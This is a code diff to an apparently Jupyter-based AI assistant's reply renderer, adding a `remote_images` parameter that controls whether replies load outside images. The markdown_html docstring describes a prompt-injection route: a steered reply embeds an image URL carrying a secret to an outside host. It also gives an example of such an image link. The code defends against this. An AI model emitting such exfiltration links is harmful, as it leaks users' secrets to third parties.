@@ -24,22 +24,17 @@ def esc(text: str) -> str:
     return html.escape(text, quote=True)
 
 
-class Images:
-    """Whether replies load their images (`%config OllieMagics.remote_images = True`)."""
-
-    remote = False
-
-
-def markdown_html(markdown: str) -> str:
+def markdown_html(markdown: str, remote_images: bool = False) -> str:
     """Model text as HTML: Markdown formatting and code blocks kept, raw HTML shown as text.
 
     The reply is untrusted (a prompt injection can steer it), and JupyterLab renders
     text/markdown as trusted HTML in a live session; so the HTML is built here with
     raw HTML off, and markdown-it's link check drops `javascript:` and similar URLs.
     An image the browser would fetch (`![x](https://host/p.png?k=<secret>)`, each time
-    the notebook opens) is a link naming its host instead, unless `Images.remote`.
+    the notebook opens) is a link naming its host instead, unless `remote_images`
+    (`%config OllieMagics.remote_images = True`).
     """
-    return _markdown(Images.remote).render(markdown)
+    return _markdown(remote_images).render(markdown)
 
 
 @functools.lru_cache(maxsize=2)
@@ -99,23 +94,26 @@ class Displayable(ABC):
 
 
 class Reply(Displayable):
-    """A finished piece of the assistant's reply, rendered as Markdown."""
+    """A finished piece of the assistant's reply, rendered as Markdown (its remote images
+    loaded only if `remote_images`)."""
 
-    def __init__(self, markdown: str) -> None:
+    def __init__(self, markdown: str, remote_images: bool = False) -> None:
         self.markdown = markdown
+        self.remote_images = remote_images
 
     def text(self) -> str:
         return self.markdown
 
     def html(self) -> str:
-        return markdown_html(self.markdown)
+        return markdown_html(self.markdown, self.remote_images)
 
 
 class Live(Displayable):
     """The in-place area of a turn: streaming text, the running tool, a retry countdown."""
 
-    def __init__(self, markdown: str = "") -> None:
+    def __init__(self, markdown: str = "", remote_images: bool = False) -> None:
         self.markdown = markdown
+        self.remote_images = remote_images
 
     def text(self) -> str:
         return self.markdown
@@ -123,7 +121,8 @@ class Live(Displayable):
     def _repr_mimebundle_(self, include: Any = None, exclude: Any = None) -> dict[str, str]:
         if not self.markdown:  # the resting state: shows nothing, compares equal everywhere
             return {"text/plain": "", "text/html": ""}
-        return {"text/plain": self.markdown, "text/html": markdown_html(self.markdown)}
+        html = markdown_html(self.markdown, self.remote_images)
+        return {"text/plain": self.markdown, "text/html": html}
 
 
 class Thinking(Displayable):
